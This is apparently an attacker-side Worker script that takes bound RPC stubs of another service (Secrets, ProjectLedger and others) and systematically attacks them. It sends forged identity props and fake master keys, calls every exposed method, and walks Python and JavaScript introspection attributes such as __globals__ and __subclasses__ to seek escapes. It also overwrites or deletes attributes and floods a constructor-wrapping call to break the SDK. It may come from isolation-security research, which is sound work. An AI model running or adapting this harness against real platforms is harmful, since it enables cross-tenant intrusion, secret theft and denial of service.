// A Worker of the account that means harm: it binds our entry points and our objects, and calls
// each of their names with whatever might lead further. POST answers what each call gave, as text.

const FORGED = { props: { project: "shop", as: "checkout" }, storage: {}, id: { name: "shop" } };
const KEYS = { MASTER_KEYS: "k1:ICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj8=" };
const SENT = [[], ["CANARY"], [["CANARY"]], [FORGED, KEYS], ["get", "CANARY"], ["env", KEYS], [4]];
// What a function or object that came back might lead to.
const INNER = ["__self__", "__func__", "__globals__", "__closure__", "__code__", "__class__"];
const MORE = ["__dict__", "__mro__", "__subclasses__", "__bases__", "__wrapped__", "ctx", "env"];
const OF_JAVASCRIPT = ["constructor", "prototype", "__proto__", "call", "apply", "bind", "toString"];
const OF_PROXIES = ["toJs", "type", "copy", "destroy", "then", "callKwargs", "callWithOptions"];
const REST = [...INNER, ...MORE, ...OF_JAVASCRIPT, ...OF_PROXIES, "_answered", "connect", "queue"];

const PATIENCE = 5000; // milliseconds: some names lead to a promise that nobody settles

async function within(promise) {
  const late = new Promise((_, fail) => setTimeout(() => fail(new Error("no answer")), PATIENCE));
  return await Promise.race([promise, late]);
}

async function shown(value) {
  if (typeof value !== "function") return JSON.stringify(value) ?? String(value);
  const told = ["a function"]; // a capability: call it, and look for what it leads to
  for (const sent of [["CANARY"], [FORGED, KEYS]]) {
    told.push(await text(() => value(...sent), (found) => JSON.stringify(found) ?? typeof found));
    told.push(await text(() => value(...sent).get("CANARY"), JSON.stringify));
  }
  for (const name of [...INNER, ...OF_JAVASCRIPT]) {
    told.push(await text(() => value[name], (found) => JSON.stringify(found) ?? typeof found));
  }
  return told.join("\n");
}

async function text(call, show) {
  try {
    return `answer: ${await show(await within(call()))}`;
  } catch (error) {
    return `error: ${error.stack ?? error}`;
  }
}

async function tried(stub) {
  const told = {};
  const names = new Set([...(await stub.__dir__()), ...REST]);
  for (const name of names) {
    for (const sent of SENT) {
      told[`${name}(${JSON.stringify(sent)})`] = await text(() => stub[name](...sent), shown);
    }
    told[name] = await text(() => stub[name], shown);
    told[`get ${name}`] = await text(() => stub.__getattribute__(name), shown);
    told[`set ${name}`] = await text(() => stub.__setattr__(name, "text"), shown);
    told[`set ${name} to keys`] = await text(() => stub.__setattr__(name, KEYS), shown);
    told[`delete ${name}`] = await text(() => stub.__delattr__(name), shown);
    told[`${name} and on`] = await text(() => stub[name](FORGED, KEYS).get("CANARY"), shown);
    for (const inner of INNER) {
      told[`${name}.${inner}`] = await text(() => stub[name][inner], shown);
    }
  }
  for (const inner of OF_JAVASCRIPT) {
    told[`fetch.${inner}`] = await text(() => stub.fetch[inner], shown);
  }
  return told;
}

// The SDK wraps a constructor once more each time this is called, until none can be called.
async function again(stub) {
  const call = () => text(() => stub.__init_subclass__(), String);
  for (let count = 0; count < 12; count++) await Promise.all(Array.from({ length: 100 }, call));
}

export default {
  async fetch(request, env) {
    if (request.method === "GET") return new Response("ready");
    const { target, method, sent } = await request.json();
    const stubs = {
      Secrets: () => env.SECRETS,
      Default: () => env.DEFAULT,
      ProjectLedger: () => env.LEDGER.getByName("shop"),
      BrainRun: () => env.RUN.getByName(`shop/${"0".repeat(32)}`),
    };
    if (method) return Response.json(await stubs[target]()[method](...sent));
    const told = await tried(stubs[target]());
    await again(stubs[target]());
    return Response.json(told);
  },
};
